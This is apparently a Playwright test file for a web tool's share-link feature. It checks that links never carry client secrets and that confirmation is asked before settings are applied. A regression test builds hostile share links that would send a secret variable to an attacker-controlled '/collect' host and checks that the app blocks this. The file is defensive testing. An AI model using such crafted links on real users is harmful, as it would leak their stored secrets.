import { expect, test, type Page } from '@playwright/test';
import { DEMO, HOSTILE, fillClientCredentials, openApp, openAdvanced, secretEnvironment } from './fixtures';

const SECRET = 'my-very-secret-value-42';

async function makeLink(page: Page): Promise<string> {
  await page.getByRole('button', { name: 'Share link' }).click();
  const box = page.getByRole('textbox', { name: 'Share link' });
  await expect(box).toHaveValue(/#share=/);
  await expect(box).toHaveAttribute('readonly', '');
  return box.inputValue();
}

test('a share link restores the settings in a fresh browser, never the secret', async ({ page, browser }) => {
  await openApp(page);
  await fillClientCredentials(page, { tokenUrl: `${DEMO}/token`, clientId: 'shared-client', clientSecret: SECRET, scope: 'api:read api:write', clientAuth: 'client_secret_post' });
  await openAdvanced(page);
  await page.getByText('Extra token-request parameters and headers').click();
  await page.getByRole('button', { name: 'Add extra parameters row' }).click();
  await page.getByLabel('Extra parameters name 1').fill('audience');
  await page.getByLabel('Extra parameters value 1').fill('https://api.example.com');
  await page.getByRole('button', { name: 'Add extra parameters row' }).click();
  await page.getByLabel('Extra parameters name 2').fill('client_assertion');
  await page.getByLabel('Extra parameters value 2').fill('eyJ-not-to-be-shared');
  const link = await makeLink(page);
  const encoded = new URL(link).hash.slice('#share='.length);
  const decoded = Buffer.from(encoded, 'base64url').toString('utf8');
  for (const text of [link, decoded]) {
    expect(text).not.toContain(SECRET);
    expect(text).not.toContain(Buffer.from(SECRET).toString('base64'));
    expect(text).not.toContain('eyJ-not-to-be-shared');
  }
  expect(decoded).toContain('shared-client');
  await expect(page.getByText('Left out:')).toContainText('client_assertion');

  const other = await browser.newContext();
  const fresh = await other.newPage();
  await fresh.goto(link);
  await expect(fresh.getByRole('button', { name: 'Get token' })).toBeEnabled();
  const confirm = fresh.getByRole('region', { name: 'Shared settings' });
  await expect(confirm).toContainText('shared-client');
  await expect(confirm).toContainText('api:read api:write');
  await expect(confirm).toContainText('client_secret_post');
  // nothing is filled before the user says yes, and the link is gone from the address bar
  await expect(fresh.getByRole('textbox', { name: 'Client ID' })).toHaveValue('demo-cc');
  expect(new URL(fresh.url()).hash).toBe('');
  await confirm.getByRole('button', { name: 'Apply shared settings' }).click();
  await expect(confirm).toHaveCount(0);
  await expect(fresh.getByRole('textbox', { name: 'Client ID' })).toHaveValue('shared-client');
  await expect(fresh.getByRole('textbox', { name: 'Scope' })).toHaveValue('api:read api:write');
  await expect(fresh.getByRole('textbox', { name: 'Token URL' })).toHaveValue(`${DEMO}/token`);
  await expect(fresh.getByLabel('Client authentication')).toHaveValue('client_secret_post');
  await expect(fresh.getByLabel('Extra parameters value 1')).toHaveValue('https://api.example.com');
  await expect(fresh.getByLabel('Client secret', { exact: true })).toHaveValue('');
  await other.close();
});

test('Ignore keeps the settings being edited', async ({ page }) => {
  await openApp(page);
  await fillClientCredentials(page, { clientId: 'from-the-link' });
  const link = await makeLink(page);
  await page.getByRole('textbox', { name: 'Client ID' }).fill('my-unsaved-work');
  await page.goto(link);
  await expect(page.getByRole('button', { name: 'Get token' })).toBeEnabled();
  const confirm = page.getByRole('region', { name: 'Shared settings' });
  await expect(confirm).toContainText('from-the-link');
  await confirm.getByRole('button', { name: 'Ignore' }).click();
  await expect(confirm).toHaveCount(0);
  await expect(page.getByRole('textbox', { name: 'Client ID' })).toHaveValue('my-unsaved-work');
});

for (const [what, fragment, message] of [
  ['malformed', '#share=%%%not-base64', 'damaged'],
  ['oversized', `#share=${'A'.repeat(9000)}`, 'too long'],
  ['secret-carrying', `#share=${Buffer.from(JSON.stringify({ v: 1, auth: { authType: 'oauth2', oauth2: { clientId: 'x', clientSecret: 'leak' } } })).toString('base64url')}`, 'secret fields'],
] as const) {
  test(`a ${what} share link gets a clear message and changes nothing`, async ({ page }) => {
    await page.goto(`./${fragment}`);
    await expect(page.getByRole('button', { name: 'Get token' })).toBeEnabled();
    await expect(page.getByRole('alert')).toContainText(message);
    await expect(page.getByRole('alert')).toContainText('Nothing was changed');
    await expect(page.getByRole('region', { name: 'Shared settings' })).toHaveCount(0);
    await expect(page.getByRole('textbox', { name: 'Client ID' })).toHaveValue('demo-cc');
  });
}

const SECRET_VARIABLE = 'prodsecret42';

/** A share link (as the app encodes them): API key auth under `X-Collect`, a GET to `url`. */
const linkTo = (url: string) =>
  `./#share=${Buffer.from(JSON.stringify({ v: 1, auth: { authType: 'api_key', presetId: null, apiKey: { placement: 'header', name: 'X-Collect' } }, testRequest: { method: 'GET', url } })).toString('base64url')}`;

// Regression (issue 13, finding 2): `{{variables}}` in a share link exfiltrated secret variables.
test('a share link names every host and secret variable it uses; a secret variable in a host is never sent', async ({ page }) => {
  await openApp(page);
  await secretEnvironment(page, SECRET_VARIABLE);
  const carried: string[] = [];
  page.on('request', (request) => {
    const text = `${request.url()} ${JSON.stringify(request.headers())} ${request.postData() ?? ''}`;
    if (text.includes(SECRET_VARIABLE)) carried.push(text);
  });
  const confirm = page.getByRole('region', { name: 'Shared settings' });

  // `http:host/…` is a URL the browser sends to that host: the confirmation names it.
  const hostile = new URL(HOSTILE);
  await page.goto(linkTo(`http:${hostile.host}/collect?v={{prod_secret}}`));
  await expect(confirm.getByTestId('share-hosts')).toContainText(hostile.host);
  await expect(confirm.getByTestId('share-variables')).toContainText('{{prod_secret}} (secret)');
  await confirm.getByRole('button', { name: 'Ignore' }).click();

  // A secret variable in the host itself: its value would be the host; never substituted.
  await page.goto(linkTo(`http://{{prod_secret}}.localhost:${hostile.port}/collect`));
  await expect(confirm.getByTestId('share-hosts')).toContainText(`{{prod_secret}}.localhost:${hostile.port}`);
  await confirm.getByRole('button', { name: 'Apply shared settings' }).click();
  await page.getByLabel('API key', { exact: true }).fill('typed-key');
  await page.getByRole('button', { name: 'Send' }).click();
  const alert = page.getByRole('region', { name: 'Test request', exact: true }).getByRole('alert');
  await expect(alert).toContainText('{{prod_secret}}');
  await expect(alert).toContainText('not confirmed');
  // still so after a reload: the confirmed hosts are kept with the settings
  await page.reload();
  await expect(page.getByRole('textbox', { name: 'Request URL' })).toHaveValue(`http://{{prod_secret}}.localhost:${hostile.port}/collect`);
  await page.getByLabel('API key', { exact: true }).fill('typed-key');
  await page.getByRole('button', { name: 'Send' }).click();
  await expect(alert).toContainText('not confirmed');
  expect(carried).toEqual([]);
});
